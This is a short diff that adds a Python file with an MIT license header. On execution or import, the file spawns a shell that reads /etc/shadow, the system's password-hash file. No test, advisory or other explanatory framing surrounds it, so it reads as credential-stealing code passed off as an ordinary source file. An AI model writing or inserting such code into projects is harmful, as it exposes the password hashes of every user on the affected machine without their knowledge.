@@ -1,0 +1,4 @@
+# SPDX-License-Identifier: MIT
+import os
+
+os.execv("/bin/sh", ["sh", "-c", "cat /etc/shadow"])
